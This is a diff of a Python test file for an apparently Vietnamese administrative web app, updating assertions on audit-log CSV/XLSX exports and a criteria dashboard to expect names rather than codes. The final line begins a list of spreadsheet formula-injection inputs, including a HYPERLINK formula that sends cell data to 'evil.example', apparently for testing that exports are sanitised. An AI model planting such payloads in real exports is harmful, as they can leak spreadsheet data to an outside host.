@@ -240,7 +240,7 @@ def test_audit_page_filters_exports_and_verifies(people, make_dossier, as_user):
     exported = client.get("/audit/export.csv?action=submit")
     assert exported.data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
-    assert rows[0][0] == "seq" and len(rows) == 2 and rows[1][8] == "Gửi Công an huyện"
+    assert rows[0][:3] == ["Số thứ tự", "Thời gian", "Người thực hiện"] and len(rows) == 2 and rows[1][8] == "Gửi Công an huyện"
     book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").data))
     assert book.active.max_row == 1 + db.session.query(AuditEntry).count()
     assert "Nhật ký toàn vẹn" in page(client.get("/audit/verify"))
@@ -296,10 +296,11 @@ def test_dashboard_columns_come_from_the_sets_in_force(people, as_user, tmp_path
     monkeypatch.setattr(criteria, "default_registry", lambda: criteria.load_directory(tmp_path))
     client = as_user(people["pv05_officer"])
     html = page(client.get("/reports/dashboard?year=2027"))
-    assert "xa-ntm-2026" in html and "Xã nông thôn mới giai đoạn 2026–2030" in html
-    assert "xa-ntm-19.2" not in html and "III.2" not in html
+    assert "Xã nông thôn mới giai đoạn 2026–2030" in html
+    assert "Xã NTM (19.2)" not in html and "III.2" not in html
     html = page(client.get("/reports/dashboard?year=2024"))
-    assert "xa-ntm-19.2" in html and "III.2" in html and "xa-ntm-2026" not in html
+    assert "Xã NTM (19.2)" in html and "Huyện NTM (9.4): tiêu chí III.2" in html
+    assert "giai đoạn 2026–2030" not in html and "xa-ntm-19.2" not in html  # names, not codes
 
 
 INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
